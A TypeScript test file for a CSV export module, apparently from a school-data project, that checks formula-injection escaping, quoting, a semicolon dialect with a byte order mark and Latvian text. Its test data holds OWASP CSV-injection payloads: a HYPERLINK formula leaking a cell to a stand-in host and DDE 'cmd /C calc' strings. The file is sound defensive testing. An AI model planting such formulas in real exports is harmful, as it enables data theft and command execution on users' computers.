import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { commandWorks, missingComponent } from '../../test/support/real-component.js';
import { csvCell, toCsv } from './csv.js';

const noPython = missingComponent('python3', commandWorks('python3'), 'Debian package python3');

/**
 * Parses CSV with Python's csv module, a reader skolnet did not write,
 * splitting on `delimiter`; `utf-8-sig` drops a byte order mark as Excel does.
 */
function readCsv(text: string, delimiter: ',' | ';' = ','): string[][] {
  const out = execFileSync(
    'python3',
    [
      '-c',
      'import csv,json,sys;text=sys.stdin.buffer.read().decode("utf-8-sig");' +
        'print(json.dumps(list(csv.reader(text.splitlines(True),delimiter=sys.argv[1]))))',
      delimiter,
    ],
    { input: Buffer.from(text, 'utf8'), encoding: 'utf8' },
  );
  return JSON.parse(out) as string[][];
}

describe('csvCell', () => {
  it.each(['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1'])(
    'keeps %j as text with a leading quote',
    (s) => {
      const cell = csvCell(s);
      expect(cell.replace(/^"/, '')).toMatch(/^'/);
    },
  );

  it('writes numbers as numbers, negative ones included', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
  });

  it('in the semicolon dialect quotes semicolons, not commas, and writes decimal commas', () => {
    expect(csvCell('a;b', 'semicolon')).toBe('"a;b"');
    expect(csvCell('a,b', 'semicolon')).toBe('a,b');
    expect(csvCell(-12.5, 'semicolon')).toBe('-12,5');
    expect(csvCell('=1+1', 'semicolon')).toBe("'=1+1");
  });

  it('starts the semicolon dialect with a UTF-8 BOM and keeps the comma one without', () => {
    expect(toCsv(['a', 'b'], [[1.5, 'x']], 'semicolon')).toBe('\uFEFFa;b\r\n1,5;x\r\n');
    expect(toCsv(['a', 'b'], [[1.5, 'x']])).toBe('a,b\r\n1.5,x\r\n');
  });

  it('ends every line with CRLF', () => {
    expect(toCsv(['a', 'b'], [[1, '=x']])).toBe("a,b\r\n1,'=x\r\n");
  });
});

describe.skipIf(noPython)('CSV read back by python3 csv', () => {
  /** Hostile school names (OWASP "CSV Injection" examples) and a benign one. */
  const HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikšķini")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    'Rīgas 1. vidusskola, "Zaķis"',
  ];

  it('keeps every hostile text cell as text, losing nothing but adding the one quote', () => {
    const rows = readCsv(
      toCsv(
        ['name', 'n'],
        HOSTILE.map((name, i) => [name, i]),
      ),
    );
    expect(rows).toHaveLength(HOSTILE.length + 1);
    HOSTILE.forEach((name, i) => {
      const [cell, n] = rows[i + 1]!;
      expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
      expect(cell).toBe(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
      expect(n).toBe(String(i));
    });
  });

  it('reads the semicolon dialect back in columns, hostile cells as text, Latvian letters whole', () => {
    const text = toCsv(
      ['name', 'municipality', 'score'],
      [...HOSTILE, 'Līvāni; Ogre'].map((name, i) => [name, 'Ķekavas novads', i + 0.5]),
      'semicolon',
    );
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = readCsv(text, ';');
    expect(rows[0]).toEqual(['name', 'municipality', 'score']);
    [...HOSTILE, 'Līvāni; Ogre'].forEach((name, i) => {
      const [cell, municipality, score] = rows[i + 1]!;
      expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
      expect(cell).toBe(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
      expect(municipality).toBe('Ķekavas novads');
      // Excel with Latvian regional settings reads a decimal comma as a number.
      expect(score).toBe(`${i},5`);
    });
  });

  it('writes genuine numbers, negative ones included, as plain numbers', () => {
    const rows = readCsv(
      toCsv(
        ['opex_eur_per_year', 'score'],
        [
          [-100, 41.5],
          [-0.25, 0],
          [1e21, -1e-7],
        ],
      ),
    );
    expect(rows.slice(1)).toEqual([
      ['-100', '41.5'],
      ['-0.25', '0'],
      ['1e+21', '-1e-7'],
    ]);
    for (const row of rows.slice(1)) for (const cell of row) expect(Number(cell)).not.toBeNaN();
  });
});
